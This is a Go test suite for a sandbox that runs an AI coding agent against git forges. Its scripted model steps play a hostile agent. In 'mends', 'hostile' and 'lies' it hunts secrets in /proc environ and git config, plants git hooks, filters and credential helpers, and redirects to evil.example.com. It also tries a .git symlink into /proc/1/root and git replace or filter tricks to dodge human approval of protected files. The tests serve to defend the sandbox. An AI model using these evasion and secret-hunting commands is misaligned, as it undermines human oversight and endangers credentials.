package worker_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/jail-sandbox/jail/cmd/cmdtest"
	"github.com/jail-sandbox/jail/supervisor/api"
	"github.com/jail-sandbox/jail/supervisor/approvals"
	"github.com/jail-sandbox/jail/supervisor/worker"
)

// Secrets that only the fetch proxy may have.
const (
	forgeToken   = "a-token-of-the-forge"
	workerSecret = "a-secret-of-the-coordinator"
)

var secrets = []string{cmdtest.ModelKey, forgeToken, workerSecret}

// A forge is a git server over TLS with pull requests as Gitea and GitHub have them, and the
// coordinator.
type forge struct {
	t     *testing.T
	h     *cmdtest.Host
	repos string
	port  int
	mu    sync.Mutex
	// pulls and told are what was asked for and reported; paths are those of git.
	pulls []map[string]any
	told  []map[string]any
	paths []string
	// prStatus is what a pull request is answered, 201 if 0.
	prStatus int
	// during is called at each request of git, while its client waits.
	during func()
}

func (f *forge) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	prStatus, during := f.prStatus, f.during
	f.mu.Unlock()
	switch {
	case strings.HasPrefix(r.URL.Path, "/internal/"):
		var told map[string]any
		if err := json.NewDecoder(r.Body).Decode(&told); err != nil {
			f.t.Error(err)
		}
		if got := r.Header.Get("X-Worker-Secret"); got != workerSecret {
			f.t.Errorf("the secret of the coordinator is %q", got)
		}
		told["path"] = r.URL.Path
		f.mu.Lock()
		f.told = append(f.told, told)
		f.mu.Unlock()
	case strings.HasPrefix(r.URL.Path, "/api/v"):
		var pull map[string]any
		if err := json.NewDecoder(r.Body).Decode(&pull); err != nil {
			f.t.Error(err)
		}
		if _, password, _ := r.BasicAuth(); password != forgeToken {
			f.t.Errorf("the pull request has the credential %q", r.Header.Get("Authorization"))
		}
		pull["path"], pull["version"] = r.URL.Path, r.Header.Get("X-GitHub-Api-Version")
		f.mu.Lock()
		f.pulls = append(f.pulls, pull)
		f.mu.Unlock()
		if prStatus != 0 {
			w.WriteHeader(prStatus)
			fmt.Fprint(w, "no, https://me:"+forgeToken+"@forge.example.com")
			return
		}
		w.WriteHeader(http.StatusCreated)
		fmt.Fprint(w, `{"html_url":"https://forge.example.com/acme/web/pulls/1"}`)
	default:
		f.mu.Lock()
		f.paths = append(f.paths, r.Method+" "+r.URL.Path+" "+r.URL.RawQuery)
		f.mu.Unlock()
		if user, password, _ := r.BasicAuth(); user != "worker" || password != forgeToken {
			w.Header().Set("WWW-Authenticate", "Basic")
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		if during != nil {
			during()
		}
		backend, err := exec.Command("git", "--exec-path").Output()
		if err != nil {
			f.t.Error(err)
		}
		(&cgi.Handler{Path: filepath.Join(strings.TrimSpace(string(backend)), "git-http-backend"),
			Env: []string{"GIT_PROJECT_ROOT=" + f.repos, "GIT_HTTP_EXPORT_ALL=1",
				"REMOTE_USER=worker", "GIT_CONFIG_NOSYSTEM=1"}, Stderr: io.Discard}).ServeHTTP(w, r)
	}
}

// gitIn calls the host's git outside of any jail.
func gitIn(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com",
		"-c", "init.defaultBranch=main", "-c", "protocol.file.allow=always"}, args...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %q: %v: %s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// failing is a repository with a test that fails.
var failing = map[string]string{"sum.sh": "echo $(($1 - $2))\n",
	"test.sh": "[ \"$(sh sum.sh 2 2)\" = 4 ] || { echo wrong >&2; exit 1; }\n",
	".env":    "TRACKED=1\n", "docs/key.pem": "no key\n"}

// newForge starts a forge, and a model's host.
func newForge(t *testing.T, h *cmdtest.Host) (*forge, *cmdtest.ModelHost) {
	t.Helper()
	cmdtest.Have(t, "/usr/bin/git", "/usr/bin/awk")
	f := &forge{t: t, h: h, repos: filepath.Join(h.Root, "repos")}
	m := cmdtest.StartModel(h)
	srv := httptest.NewTLSServer(f)
	t.Cleanup(srv.Close)
	f.port = srv.Listener.Addr().(*net.TCPAddr).Port
	cmdtest.TrustServer(h, srv)
	for name, text := range map[string]string{"forge-token": forgeToken, "worker-secret": workerSecret} {
		if err := os.WriteFile(filepath.Join(h.Root, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	cmdtest.AddSettings(h, fmt.Sprintf(`[[credential]]
name = "forge"
kind = "basic"
user = "worker"
file = %q
[[credential]]
name = "coordinator"
kind = "header"
header = "X-Worker-Secret"
file = %q
[[internal]]
host = "forge.example.com"
addresses = ["127.0.0.1"]
ports = [%d]
resolve = false
`, filepath.Join(h.Root, "forge-token"), filepath.Join(h.Root, "worker-secret"), f.port))
	return f, m
}

// repo makes a repository of the forge with files, and returns where it is.
func (f *forge) repo(name string, files map[string]string) string {
	f.t.Helper()
	bare, tree := filepath.Join(f.repos, name+".git"), filepath.Join(f.h.Root, "tree", name)
	gitIn(f.t, f.h.Root, "init", "-q", "--bare", bare)
	gitIn(f.t, bare, "config", "http.receivepack", "true")
	gitIn(f.t, f.h.Root, "init", "-q", tree)
	for name, text := range files {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(tree, name)), 0o755); err != nil {
			f.t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(tree, name), []byte(text), 0o644); err != nil {
			f.t.Fatal(err)
		}
	}
	gitIn(f.t, tree, "add", "-A", "-f")
	gitIn(f.t, tree, "commit", "-qm", "first")
	gitIn(f.t, tree, "push", "-q", bare, "HEAD:refs/heads/main")
	gitIn(f.t, bare, "symbolic-ref", "HEAD", "refs/heads/main")
	return bare
}

// at is the URL of the forge.
func (f *forge) at() string { return fmt.Sprintf("https://forge.example.com:%d", f.port) }

// task writes the file of a task for a repository, with more at its end.
func (f *forge) task(repo, id, more string) string {
	f.t.Helper()
	file := filepath.Join(f.h.Root, id+".toml")
	text := fmt.Sprintf("task = 1\nid = %q\nrepo = %q\ncredential = \"forge\"\nbranch = %q\n"+
		"prompt = \"mend the sum\\nplease\"\n%s\n", id, f.at()+"/"+repo+".git", "agent/"+id, more)
	if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
		f.t.Fatal(err)
	}
	return file
}

// gitea and gitHub are where pull requests of a task are made.
const gitea = "[forge]\nkind = \"gitea\"\n"

func (f *forge) gitHub() string {
	return fmt.Sprintf("[forge]\nkind = \"github\"\napi = %q\n", f.at()+"/api/v3")
}

// run does a task.
func (f *forge) run(file string) (worker.Outcome, cmdtest.Outcome) {
	f.t.Helper()
	return f.outcome(f.h.Jail("worker", "run", "--json", file))
}

// outcome reads how a task ended.
func (f *forge) outcome(o cmdtest.Outcome) (out worker.Outcome, _ cmdtest.Outcome) {
	f.t.Helper()
	if err := json.Unmarshal([]byte(o.Out), &out); err != nil {
		f.t.Fatalf("%v: %+v", err, o)
	}
	if out.Success != (o.Code == 0) || !out.Success && o.Code != 1 {
		f.t.Errorf("success %v, and the exit code is %d", out.Success, o.Code)
	}
	for _, s := range secrets {
		if strings.Contains(o.Out+o.Err, s) {
			f.t.Errorf("the output has a secret: %s%s", o.Out, o.Err)
		}
	}
	return out, o
}

// begin begins a task, and returns a function that waits for its end.
func (f *forge) begin(file string) func() (worker.Outcome, cmdtest.Outcome) {
	f.t.Helper()
	cmd := f.h.Command("worker", "run", "--json", file)
	var out, errOut bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errOut
	if err := cmd.Start(); err != nil {
		f.t.Fatal(err)
	}
	return func() (worker.Outcome, cmdtest.Outcome) {
		f.t.Helper()
		err := cmd.Wait()
		return f.outcome(cmdtest.Outcome{Code: f.h.ExitCode(cmd, err), Out: out.String(),
			Err: errOut.String()})
	}
}

// show returns a file of a branch of a repository, or what git says.
func show(bare, branch, file string) string {
	out, err := exec.Command("git", "-C", bare, "show", branch+":"+file).Output()
	if err != nil {
		return err.Error()
	}
	return string(out)
}

// statuses are those that the coordinator was told, each once in a row.
func (f *forge) statuses() (all []string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, told := range f.told {
		s, _ := told["status"].(string)
		if s == "" {
			s = told["path"].(string)
		}
		all = append(all, s)
	}
	return slices.Compact(all)
}

// noSecret checks that no file below the state directory has a secret. The control is that those
// of the operator are found.
func noSecret(t *testing.T, h *cmdtest.Host) {
	t.Helper()
	own := map[string]string{filepath.Join(h.Root, "secret"): cmdtest.ModelKey,
		filepath.Join(h.Root, "forge-token"):   forgeToken,
		filepath.Join(h.Root, "worker-secret"): workerSecret}
	if got := cmdtest.Holding(h, secrets...); !maps.Equal(got, own) {
		t.Errorf("secrets are in %v, want %v", got, own)
	}
}

// TestWorker does tasks in repositories of a forge with a model that has a script.
func TestWorker(t *testing.T) {
	h := cmdtest.New(t)
	f, m := newForge(t, h)
	temporary := filepath.Join(h.Root, "tmp")
	if err := os.Mkdir(temporary, 0o700); err != nil {
		t.Fatal(err)
	}
	h.Env = append(h.Env, "TMPDIR="+temporary)
	d := h.Daemon()
	cmdtest.StartAgentd(h)
	web := f.repo("acme/web", failing)
	t.Run("mends", func(t *testing.T) { mends(t, f, m, d, web) })
	t.Run("goes on", func(t *testing.T) { goesOn(t, f, m, web) })
	t.Run("waits", func(t *testing.T) { waits(t, f, m, web) })
	t.Run("saves", func(t *testing.T) { saves(t, f, m, web) })
	t.Run("keeps", func(t *testing.T) { keeps(t, f, m, web) })
	t.Run("submodules", func(t *testing.T) { submodules(t, f, m) })
	t.Run("stopped", func(t *testing.T) { stopped(t, f, m) })
	t.Run("hostile", func(t *testing.T) { hostile(t, f, m) })
	noSecret(t, h)
	if left, err := os.ReadDir(temporary); err != nil || len(left) != 0 {
		t.Errorf("left in TMPDIR: %v, %v", left, err)
	}
	if left := h.Sessions(); len(left) != 0 {
		t.Errorf("sessions are left: %+v", left)
	}
}

// mends: a model mends a repository, and the work is a branch with one commit and a pull request.
// Nothing inside has a secret, or can push: the control is the push itself, which has both.
func mends(t *testing.T, f *forge, m *cmdtest.ModelHost, d *cmdtest.SharedDaemon, web string) {
	steps := []string{`list_directory {"path":"."}` + "\n" + `read_file {"path":"sum.sh"}` + "\n" +
		`run_command {"command":"sh test.sh"}` + "\n" +
		`run_command {"command":"env; cat /proc/*/environ /proc/*/cmdline; git config -l; ` +
		`git push origin HEAD:refs/heads/stolen"}` + "\n" +
		`run_command {"command":"git commit --allow-empty -qm mine && git checkout -q --detach"}`,
		`write_file {"path":"/workspace/sum.sh","content":"echo $(($1 + $2))\n"}` + "\n" +
			`run_command {"command":"sh test.sh"}` + "\n" +
			`search_files {"pattern":"echo"}`,
		"Sums are sums again."}
	m.Set(steps...)
	s := &scanner{t: t, daemon: d.Cmd.Process.Pid}
	m.During(s.scan)
	f.during = s.scan
	out, o := f.run(f.task("acme/web", "task-1", gitea+fmt.Sprintf("[coordinator]\nurl = %q\n"+
		"credential = \"coordinator\"\n", f.at())))
	m.During(nil)
	f.during = nil
	s.done()
	if !out.Success || !slices.Equal(out.FilesChanged, []string{"sum.sh"}) ||
		out.Summary != "Sums are sums again." || !strings.HasSuffix(out.PRURL, "/pulls/1") {
		t.Fatalf("%+v\n%s", out, o.Err)
	}
	if got := strings.Fields(gitIn(t, web, "for-each-ref", "--format=%(refname)")); !slices.Equal(got,
		[]string{"refs/heads/agent/task-1", "refs/heads/main"}) {
		t.Errorf("branches %q", got)
	}
	if text := show(web, "agent/task-1", "sum.sh"); text != "echo $(($1 + $2))\n" {
		t.Errorf("the branch has %q", text)
	}
	if text := show(web, "agent/task-1", ".env"); text != "TRACKED=1\n" {
		t.Errorf("a tracked file with a hidden name is %q", text)
	}
	if log := gitIn(t, web, "log", "--format=%an %s", "main..agent/task-1"); log !=
		"worker task-1: mend the sum" {
		t.Errorf("the log is %q", log)
	}
	if len(f.pulls) != 1 || f.pulls[0]["head"] != "agent/task-1" || f.pulls[0]["base"] != "main" ||
		f.pulls[0]["path"] != "/api/v1/repos/acme/web/pulls" ||
		f.pulls[0]["title"] != "task-1: mend the sum" || f.pulls[0]["body"] != out.Summary {
		t.Errorf("pull requests %v", f.pulls)
	}
	want := []string{"starting", "cloning", "branching", "thinking", "tool", "thinking", "tool",
		"thinking", "committing", "pushing", "creating_pr", "/internal/complete"}
	if got := f.statuses(); !slices.Equal(got, want) {
		t.Errorf("told %q, want %q", got, want)
	}
	end := f.told[len(f.told)-1]
	if files, _ := end["filesChanged"].([]any); end["task_id"] != "task-1" || end["success"] != true ||
		end["summary"] != out.Summary || end["prUrl"] != out.PRURL || len(files) != 1 {
		t.Errorf("the end is told as %v", end)
	}
	// The command that looked for secrets, and tried to push.
	asked := m.Asked()
	text, err := json.Marshal(asked[len(asked)-1])
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range secrets {
		if bytes.Contains(text, []byte(s)) {
			t.Errorf("the model got %s", s)
		}
	}
	if o := f.h.Jail("agent", "replay", out.Session); o.Code != 0 || !strings.Contains(o.Out, "all equal") {
		t.Errorf("replay: %+v", o)
	}
	for _, answer := range []string{"Could not resolve host", "1|echo $(($1 - $2))", "wrong",
		"(the command wrote nothing)", "wrote 18 bytes", "sum.sh:1:"} {
		if !bytes.Contains(text, []byte(answer)) {
			t.Errorf("no tool answered %q: %s", answer, text)
		}
	}
}

// environment is a command that does a task that the environment describes.
func (f *forge) environment(repo, id string) *exec.Cmd {
	cmd := f.h.Command("worker", "run", "--json")
	for name, value := range map[string]string{"TASK_ID": id, "BRANCH": "agent/" + id,
		"REPO_URL": strings.Replace(f.at(), "//", "//forge@", 1) + "/" + repo + ".git",
		"PROMPT":   "mend the sum", "MODEL": "fast", "CLAUDE_API_KEY": "model",
		"COORDINATOR_URL": f.at(), "WORKER_SECRET": "coordinator", "TIMEOUT_MS": "600000"} {
		cmd.Env = append(cmd.Env, name+"="+value)
	}
	return cmd
}

// goesOn: a task on a branch that is there goes on with it, and GitHub is asked for a pull request;
// without changes, in a task of the environment, nothing is pushed.
func goesOn(t *testing.T, f *forge, m *cmdtest.ModelHost, web string) {
	m.Set(`write_file {"path":"more","content":"more\n"}`, "more")
	out, o := f.run(f.task("acme/web", "task-1", f.gitHub()))
	if !out.Success || show(web, "agent/task-1", "more") != "more\n" ||
		show(web, "agent/task-1", "sum.sh") != "echo $(($1 + $2))\n" {
		t.Errorf("%+v\n%s", out, o.Err)
	}
	if last := f.pulls[len(f.pulls)-1]; last["path"] != "/api/v3/repos/acme/web/pulls" ||
		last["version"] != "2022-11-28" {
		t.Errorf("pull request %v", last)
	}
	m.Set("nothing to do")
	before, told := len(f.paths), len(f.told)
	out, _ = f.outcome(f.h.Run(f.environment("acme/web", "task-2")))
	if !out.Success || len(out.FilesChanged) != 0 || out.PRURL != "" ||
		!strings.Contains(out.Summary, "nothing was pushed") {
		t.Errorf("without changes: %+v", out)
	}
	for _, p := range f.paths[before:] {
		if strings.Contains(p, "receive-pack") {
			t.Errorf("without changes: %s", p)
		}
	}
	if len(f.told) == told {
		t.Error("the coordinator of the environment was told nothing")
	}
}

// waiting waits until an action of a type waits for a decision, and returns it.
func (f *forge) waiting(kind string) (a approvals.Action) {
	f.t.Helper()
	// Not by the command, of which many would take the processors from what is waited for.
	c, err := api.Dial(f.t.Context(), filepath.Join(f.h.State, "jail.sock"))
	if err != nil {
		f.t.Fatal(err)
	}
	defer c.Close()
	cmdtest.Eventually(f.t, kind+" waits", func() bool {
		all, err := c.Approvals().List(f.t.Context(), false)
		if err != nil {
			f.t.Fatal(err)
		}
		n := slices.IndexFunc(all, func(a approvals.Action) bool {
			return a.Type == kind && a.State == approvals.Pending
		})
		if n >= 0 {
			a = all[n]
		}
		return n >= 0
	})
	return a
}

// waits: a push that changes a protected name waits for a person, who approves it.
func waits(t *testing.T, f *forge, m *cmdtest.ModelHost, web string) {
	m.Set(`write_file {"path":".github/workflows/x.yml","content":"x\n"}`, "done")
	end := f.begin(f.task("acme/web", "waits", ""))
	a := f.waiting("git.push")
	if !strings.Contains(a.Summary, "protected names are changed: .github/workflows/x.yml") {
		t.Errorf("%+v", a)
	}
	if text := show(web, "agent/waits", ".github/workflows/x.yml"); text == "x\n" {
		t.Error("it was pushed before anybody approved it")
	}
	f.h.Wants(f.h.Jail("approvals", "approve", a.ID), 0, "")
	out, o := end()
	if !out.Success || show(web, "agent/waits", ".github/workflows/x.yml") != "x\n" ||
		!strings.Contains(o.Err, "waiting") {
		t.Errorf("%+v\n%s", out, o.Err)
	}
}

// TestWorkerAsks: under a profile that asks for pushes and pull requests, each of the two waits for a
// person.
func TestWorkerAsks(t *testing.T) {
	h := cmdtest.NewPolicyHost(t, map[string]string{"careful": "policy = 1\nname = \"careful\"\n" +
		"include = [\"worker\"]\n[[approve]]\naction = \"git.push\"\nmode = \"ask\"\n" +
		"[[approve]]\naction = \"pr.create\"\nmode = \"ask\"\n"})
	f, m := newForge(t, h.Host)
	h.Close()
	h.Open()
	h.Listens()
	cmdtest.StartAgentd(h.Host)
	web := f.repo("acme/web", failing)
	m.Set(written, "done")
	end := f.begin(f.task("acme/web", "PROJ_1.asks", "profile = \"careful\"\n"+gitea))
	push := f.waiting("git.push")
	if text := show(web, "agent/PROJ_1.asks", "new"); text == "x\n" {
		t.Error("it was pushed before anybody approved it")
	}
	h.Wants(h.Jail("approvals", "approve", push.ID), 0, "")
	pull := f.waiting("pr.create")
	if len(f.pulls) != 0 || show(web, "agent/PROJ_1.asks", "new") != "x\n" {
		t.Errorf("before the pull request is approved there are %v", f.pulls)
	}
	h.Wants(h.Jail("approvals", "approve", pull.ID), 0, "")
	if out, o := end(); !out.Success || len(f.pulls) != 1 || !strings.HasSuffix(out.PRURL, "/pulls/1") {
		t.Errorf("%+v, %v\n%s", out, f.pulls, o.Err)
	}
}

const written = `write_file {"path":"new","content":"x\n"}`

// saves: what was changed when the model's host fails is pushed as work in progress.
func saves(t *testing.T, f *forge, m *cmdtest.ModelHost, web string) {
	m.Set(written, "400!no")
	out, _ := f.outcome(f.h.Jail("worker", "run", "--json", f.task("acme/web", "saves",
		"model = \"fast\"\n")))
	if out.Error == nil || out.Error.Code != "API_ERROR" || out.Error.Recoverable || out.Kept != "" {
		t.Errorf("%+v", out.Error)
	}
	if log := gitIn(t, web, "log", "--format=%s", "-1", "agent/saves"); log !=
		"[WIP] saves: mend the sum" {
		t.Errorf("the last commit is %q", log)
	}
}

// keeps: what the forge refuses stays in the session, from where it can be fetched.
func keeps(t *testing.T, f *forge, m *cmdtest.ModelHost, web string) {
	f.prStatus = 422
	m.Set(written, "done")
	out, _ := f.run(f.task("acme/web", "pr", gitea))
	f.prStatus = 0
	if out.Error == nil || out.Error.Code != "PR_FAILED" || out.Kept != "" ||
		!strings.Contains(out.Error.Message, "[REDACTED]") || show(web, "agent/pr", "new") != "x\n" {
		t.Errorf("%+v, %+v", out, out.Error)
	}
	hook := filepath.Join(web, "hooks/pre-receive")
	if err := os.WriteFile(hook, []byte("#!/bin/sh\nexit 1\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	out, o := f.run(f.task("acme/web", "push", ""))
	if err := os.Remove(hook); err != nil {
		t.Fatal(err)
	}
	if out.Error == nil || out.Error.Code != "PUSH_FAILED" || !strings.HasPrefix(out.Kept, "task-push-") ||
		!strings.Contains(o.Err, "jail session exec "+out.Kept) {
		t.Fatalf("%+v, %+v\n%s", out, out.Error, o.Err)
	}
	if o := f.h.Exec(out.Kept, "git", "log", "--format=%s", "-1", "agent/push"); o.Out !=
		"[WIP] push: mend the sum\n" {
		t.Errorf("the session has %+v", o)
	}
	bundle := filepath.Join(f.h.Root, "work.bundle")
	if err := os.WriteFile(bundle, []byte(f.h.Exec(out.Kept, "git", "bundle", "create", "-q", "-",
		"agent/push").Out), 0o600); err != nil {
		t.Fatal(err)
	}
	gitIn(t, web, "fetch", "-q", bundle, "agent/push:refs/heads/agent/push")
	if text := show(web, "agent/push", "new"); text != "x\n" {
		t.Errorf("from the session comes %q", text)
	}
	// The directory of the session is that of all tasks, in which each finds nothing.
	f.h.Wants(f.h.Jail("commit", out.Kept), 126, `"never"`)
	f.h.Wants(f.h.Jail("session", "stop", "--discard", out.Kept), 0, "")
	if left, err := os.ReadDir(filepath.Join(f.h.State, "agentd", "worker")); err != nil || len(left) != 0 {
		t.Errorf("the directory of the sessions has %v, %v", left, err)
	}
}

// submodules: those that the task names are fetched, with the credential, and no others; hostile has the
// control, that none is fetched unasked.
func submodules(t *testing.T, f *forge, m *cmdtest.ModelHost) {
	part := f.repo("acme/part", map[string]string{"a": "of the part\n"})
	commit := gitIn(t, part, "rev-parse", "main")
	whole := f.repo("acme/whole", map[string]string{
		".gitmodules": "[submodule \"part\"]\n\tpath = part\n\turl = ../part.git\n"})
	tree := filepath.Join(f.h.Root, "tree/acme/whole")
	gitIn(t, tree, "update-index", "--add", "--cacheinfo", "160000,"+commit+",part")
	gitIn(t, tree, "commit", "-qm", "with a part")
	gitIn(t, tree, "push", "-q", whole, "HEAD:refs/heads/main")
	m.Set(step("run_command", "command", "cp part/a copy && echo x > part/x"), "done")
	named := fmt.Sprintf("submodules = [%q]\n", f.at()+"/acme/part.git")
	out, o := f.run(f.task("acme/whole", "parts", named))
	if !out.Success || !slices.Equal(out.FilesChanged, []string{"copy"}) ||
		show(whole, "agent/parts", "copy") != "of the part\n" {
		t.Errorf("%+v\n%s", out, o.Err)
	}
	out, o = f.run(f.task("acme/whole", "others", strings.Replace(named, "part", "other", 1)))
	if out.Error == nil || out.Error.Code != "CLONE_FAILED" ||
		!strings.Contains(out.Error.Message, "git submodule") {
		t.Errorf("a submodule that is not named: %+v\n%s", out.Error, o.Err)
	}
}

// stopped: somebody stops the session of a task, which jail top shows by the name of the task.
func stopped(t *testing.T, f *forge, m *cmdtest.ModelHost) {
	m.Set(written, "hold", written)
	end := f.begin(f.task("acme/web", "gone", ""))
	cmdtest.Eventually(t, "the model is asked", func() bool { return len(m.Asked()) == 2 })
	id := f.h.Sessions()[0].ID
	if top := f.h.Jail("top", "-n", "1").Out; !strings.HasPrefix(id, "task-gone-") ||
		!strings.Contains(top, id) {
		t.Errorf("session %s, and jail top shows\n%s", id, top)
	}
	f.h.Jail("session", "stop", "--discard", id)
	m.Set(written, written)
	m.Release()
	if out, _ := end(); out.Error == nil || out.Error.Code != "TOOL_FAILED" || out.Kept != "" {
		t.Errorf("%+v", out.Error)
	}
}

// step is a call of a tool as the model makes it, with the names and values of its input.
func step(tool string, input ...string) string {
	values := map[string]string{}
	for pair := range slices.Chunk(input, 2) {
		values[pair[0]] = pair[1]
	}
	text, err := json.Marshal(values)
	if err != nil {
		panic(err)
	}
	return tool + " " + string(text)
}

// hostile: nothing of a hostile repository runs on the host or with a secret, and neither
// what it nor what the model writes into the settings of git has an effect on the worker's own git.
func hostile(t *testing.T, f *forge, m *cmdtest.ModelHost) {
	marker := filepath.Join(f.h.Root, "marker")
	bare := f.repo("acme/hostile", map[string]string{"a": "a\n",
		".gitattributes": "* filter=evil diff=evil merge=evil\n",
		".gitmodules":    "[submodule \"s\"]\n\tpath = s\n\turl = ../other.git\n"})
	before := len(f.paths)
	const hook = ".git/hooks/reference-transaction"
	script := func(name string) string {
		return "#!/bin/sh\necho ran >> /workspace/" + name + "\ntouch " + marker + "\n"
	}
	m.Set(strings.Join([]string{
		// A hook, a monitor, drivers and another place for the push.
		step("write_file", "path", hook, "content", script("ran-hook")),
		step("run_command", "command", "chmod +x "+hook),
		// Control: without the worker's settings the hook runs.
		step("run_command", "command",
			"git update-ref refs/heads/control HEAD; mv ran-hook control"),
		step("write_file", "path", "monitor", "content", script("ran-monitor")),
		step("run_command", "command", "chmod +x monitor; "+
			"git config core.fsmonitor /workspace/monitor; git status; "+
			"mv ran-monitor control-monitor"),
		step("run_command", "command", strings.Join([]string{
			"git config filter.evil.clean 'touch " + marker + "; cat'",
			"git config diff.evil.command 'touch " + marker + "'",
			fmt.Sprintf("git config url.https://evil.example.com/.insteadOf "+
				"https://forge.example.com:%d/", f.port),
			"git config core.sshCommand 'touch " + marker + "'",
			"git config credential.helper '!touch " + marker + "'",
			"echo /workspace/.git > .git/objects/info/alternates"}, "; "))}, "\n"), "done")
	out, o := f.run(f.task("acme/hostile", "hooks", ""))
	if !out.Success || !slices.Equal(out.FilesChanged, []string{"control", "control-monitor", "monitor"}) {
		t.Errorf("%+v\n%s", out, o.Err)
	}
	if text := show(bare, "agent/hooks", "control"); !strings.HasPrefix(text, "ran\n") {
		t.Errorf("control: the hook did not run: %q", text)
	}
	if text := show(bare, "agent/hooks", "control-monitor"); !strings.HasPrefix(text, "ran\n") {
		t.Errorf("control: the monitor did not run: %q", text)
	}
	for _, p := range f.paths[before:] {
		if !strings.Contains(p, " /acme/hostile.git/") {
			t.Errorf("git asked for %s", p)
		}
	}
	// The model replaces the repository by what leads elsewhere.
	m.Set(step("run_command", "command",
		"mv .git /tmp/x; ln -s /proc/1/root/etc .git; echo x > x"), "done")
	out, o = f.run(f.task("acme/hostile", "link", ""))
	f.h.Jail("session", "stop", "--discard", out.Kept)
	if out.Error == nil || out.Error.Code != "PUSH_FAILED" || show(bare, "agent/link", "x") == "x\n" {
		t.Errorf("a link as .git: %+v\n%s", out, o.Err)
	}
	// The model replaces the start by a commit that has a protected name already, so that the session's
	// git does not list the name.
	m.Set(`write_file {"path":"Makefile","content":"all:\n"}`+"\n"+step("run_command", "command",
		"git add -A && git write-tree | xargs git commit-tree -m x | xargs git replace HEAD"), written, "done")
	out, o = f.run(f.task("acme/hostile", "hides", ""))
	f.h.Jail("session", "stop", "--discard", out.Kept)
	if out.Error == nil || out.Error.Code != "PUSH_FAILED" ||
		show(bare, "agent/hides", "Makefile") == "all:\n" {
		t.Errorf("a protected name that is hidden: %+v\n%s", out, o.Err)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Error("something of the repository ran on the host")
	}
	lies(t, f, m, bare)
	// Names that are git's own do not come in; supervisor/worker TestCloneScript has every spelling.
	// They are cloned at one time.
	m.Set("done")
	var tasks []string
	blob := gitIn(t, bare, "rev-parse", "main:a")
	for id, entry := range map[string]string{"dotgit": "040000 tree %[2]s\t.git",
		"modules": "120000 blob %[1]s\t.gitmodules"} {
		evil := filepath.Join(f.repos, "acme", id+".git")
		gitIn(t, f.h.Root, "clone", "-q", "--bare", bare, evil)
		mktree := func(line string) string {
			t.Helper()
			cmd := exec.Command("git", "-C", evil, "mktree")
			cmd.Stdin = strings.NewReader(line + "\n")
			made, err := cmd.Output()
			if err != nil {
				t.Fatalf("mktree %q: %v", line, err)
			}
			return strings.TrimSpace(string(made))
		}
		inner := mktree("100644 blob " + blob + "\tconfig")
		tree := mktree(fmt.Sprintf(entry+"%[3]s", blob, inner, ""))
		commit := gitIn(t, evil, "commit-tree", tree, "-m", "evil")
		gitIn(t, evil, "update-ref", "refs/heads/main", commit)
		// Control: git as it is takes the objects.
		gitIn(t, f.h.Root, "clone", "-q", "--bare", "file://"+evil, filepath.Join(f.h.Root, "control-"+id))
		tasks = append(tasks, f.task("acme/"+id, id, ""))
	}
	o = f.h.Jail(append([]string{"worker", "run", "--json", "--parallel", "2"}, tasks...)...)
	if n := strings.Count(o.Out, `"CLONE_FAILED"`); o.Code != 1 || n != len(tasks) {
		t.Errorf("%d of %d were refused: %s%s", n, len(tasks), o.Out, o.Err)
	}
}

// lies: a filter that git runs in the session writes another commit, with a protected name, and other
// names before git does. The jail of the push sees what it gets; supervisor/worker TestSendScript has
// what a session may say. The work itself is saved.
func lies(t *testing.T, f *forge, m *cmdtest.ModelHost, bare string) {
	m.Set(strings.Join([]string{
		step("write_file", "path", ".github/w.yml", "content", "x\n"),
		step("write_file", "path", ".git/evil", "content", "#!/bin/sh\n"+
			"rm /workspace/.git/armed && cat /workspace/.git/lie > /proc/$PPID/fd/1\nexec cat\n"),
		step("write_file", "path", ".git/plan", "content", `set -e
chmod +x .git/evil
git add .github
evil=$(git commit-tree $(git write-tree) -p HEAD -m evil)
{
	echo $evil
	printf 'a\0\0'
	{
		git rev-parse HEAD HEAD^{tree}
		git rev-list --objects --no-object-names $evil ^HEAD
	} | git pack-objects -q --stdout
} > .git/lie
git rm -rqf .github
git config filter.evil.clean /workspace/.git/evil
echo more >> a
touch .git/armed
`),
		step("run_command", "command", "sh .git/plan")}, "\n"), "done")
	out, o := f.run(f.task("acme/hostile", "lies", ""))
	if out.Error == nil || out.Error.Code != "PUSH_FAILED" || out.Kept != "" {
		t.Errorf("%+v, %+v\n%s", out, out.Error, o.Err)
	}
	if text := show(bare, "agent/lies", ".github/w.yml"); text == "x\n" {
		t.Error("a protected name was pushed, and nobody was asked")
	}
}

// TestWorkerRefused: what a task must not hold is said at once, without what may be a secret.
func TestWorkerRefused(t *testing.T) {
	h := cmdtest.NewNative(t)
	if err := os.WriteFile(filepath.Join(h.State, "models.toml"),
		[]byte("[roles]\nfast = \"openai/m\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	const secret = "sk-ant-0123456789abcdef"
	good := map[string]string{"TASK_ID": "t", "REPO_URL": "https://github.com/a/b.git",
		"BRANCH": "agent/t", "PROMPT": "p"}
	for name, c := range map[string]struct{ value, why string }{
		"CLAUDE_API_KEY": {secret, "no name of a credential"},
		"WORKER_SECRET":  {secret + secret, "no name of a credential"},
		"REPO_URL":       {"https://me:" + secret + "@github.com/a/b", "holds a password"},
		"BRANCH":         {"../x", "no name of a branch"},
		"TIMEOUT_MS":     {"-1", "no number of milliseconds"},
